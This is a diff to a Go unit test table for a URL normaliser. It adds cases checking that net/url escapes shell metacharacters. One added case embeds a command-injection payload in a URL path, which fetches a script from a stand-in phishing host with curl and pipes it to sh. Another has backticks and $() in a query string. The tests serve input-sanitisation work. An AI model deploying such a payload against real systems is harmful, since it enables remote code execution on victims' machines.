@@ -156,7 +156,10 @@ func TestURL(t *testing.T) {
 		{"   ", "", true},
 		{"https://cdn.example/s/1.png", "https://cdn.example/s/1.png", true},
 		{"http://127.0.0.1:8080/v.webm", "http://127.0.0.1:8080/v.webm", true},
-		{"HTTPS://cdn.example/ok.mp4", "HTTPS://cdn.example/ok.mp4", true},
+		{"HTTPS://cdn.example/ok.mp4", "https://cdn.example/ok.mp4", true},
+		// Re-serialised by net/url: what RFC 3986 forbids is escaped.
+		{"https://phish.example/x/$(curl${IFS}phish.example|sh)", "https://phish.example/x/$%28curl$%7BIFS%7Dphish.example%7Csh%29", true},
+		{"https://s3.example/v.webm?X-Amz-Signature=ab%2Fcd&q=$(x${IFS}|y)`z`", "https://s3.example/v.webm?X-Amz-Signature=ab%2Fcd&q=$(x$%7BIFS%7D%7Cy)%60z%60", true},
 		{" https://cdn.example/a \n", "https://cdn.example/a", true},
 		{long, long, true},
 		{long + "a", "", false},
